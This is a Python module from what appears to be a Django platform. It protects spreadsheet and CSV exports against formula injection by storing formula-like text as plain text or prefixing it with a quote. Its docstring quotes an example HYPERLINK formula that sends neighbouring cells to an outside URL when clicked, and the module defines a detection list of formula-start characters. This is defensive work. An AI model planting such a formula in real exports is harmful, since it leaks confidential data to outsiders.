"""The one guard for every spreadsheet the platform writes: text is never run as a formula.

Names come from people and files outside the secretariat (a landscape.yml item, a taxonomy node renamed by a
subcommittee member, a company's description); a text starting with `=` written by openpyxl becomes a live
formula (`=HYPERLINK("http://…?"&K2, "Click")` can send neighbouring confidential cells away when clicked).
Rules:
- XLSX: every workbook comes from `new_workbook()`; each of its sheets' `append` stores a text that a
  spreadsheet would read as a formula (FORMULA_START) as text (cell type `s`), so callers append values as
  before. `text_cell(sheet, value)` is the same guard for a cell made by hand (a styled cell).
- CSV: `csv_text(value)` prefixes such a text with `'` (the spreadsheet convention for "this is text"); the
  member importer takes the quote off again.
`core/tests/test_spreadsheets.py` fails when a module other than this one constructs an openpyxl Workbook.
"""

import datetime
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from django.utils import timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import Cell

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection"): =, +, -, @, tab, CR.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def text_cell(sheet, value) -> Cell:
    """A cell of `sheet` holding `value`; a text that looks like a formula stays text."""
    cell = Cell(sheet, column=1, row=1, value=value)  # as openpyxl's WriteOnlyCell; append places it
    if looks_like_formula(value):
        cell.data_type = "s"  # text, never a formula
    return cell


def guarded_row(sheet, values) -> list:
    """`values` ready for `sheet.append`: formula-like texts as text cells, the rest unchanged."""
    return [text_cell(sheet, value) if looks_like_formula(value) else value for value in values]


def new_workbook(*, write_only: bool = True) -> Workbook:
    """A workbook whose sheets (created by `create_sheet`, and the default sheet) guard every appended row."""
    workbook = _GuardedWorkbook(write_only=write_only)
    for sheet in workbook.worksheets:
        _guard(sheet)
    return workbook


class _GuardedWorkbook(Workbook):
    def create_sheet(self, title=None, index=None):
        return _guard(super().create_sheet(title, index))


def _guard(sheet):
    append = sheet.append

    def guarded_append(values):
        append(guarded_row(sheet, values))

    sheet.append = guarded_append
    return sheet


def csv_text(value) -> str:
    """One CSV field: dates in ISO form, None empty, a formula-like text prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if looks_like_formula(value) else text


@dataclass(frozen=True)
class Table:
    """One sheet of `tables_xlsx`: its title (cut to Excel's 31 characters), a header row and the rows."""

    title: str
    headers: Sequence
    rows: Iterable[Sequence]


_SHEET_NAME_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", "_"))


def tables_xlsx(tables: Iterable[Table]) -> bytes:
    """One sheet per table, each a header row then its rows, as XLSX bytes. For the lists staff work from (the
    audit log, census non-responders, the investment day's meetings, statistics): pass the values people read
    (Korean labels, not codes). Dates and times (in Korean time) are written as dates; lazy translations as
    their text."""
    workbook = new_workbook()
    for table in tables:
        sheet = workbook.create_sheet(str(table.title).translate(_SHEET_NAME_FORBIDDEN)[:31] or "-")
        sheet.append([str(header) for header in table.headers])
        for row in table.rows:
            sheet.append([_table_value(sheet, value) for value in row])
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def table_xlsx(headers, rows, *, title: str) -> bytes:
    """`tables_xlsx` of one table."""
    return tables_xlsx([Table(title, headers, rows)])


def _table_value(sheet, value):
    if isinstance(value, Promise):
        return str(value)
    if isinstance(value, datetime.datetime):
        value = timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
        cell = Cell(sheet, column=1, row=1, value=value)
        cell.number_format = "yyyy-mm-dd hh:mm"
        return cell
    if isinstance(value, datetime.date):
        cell = Cell(sheet, column=1, row=1, value=value)
        cell.number_format = "yyyy-mm-dd"
        return cell
    return value
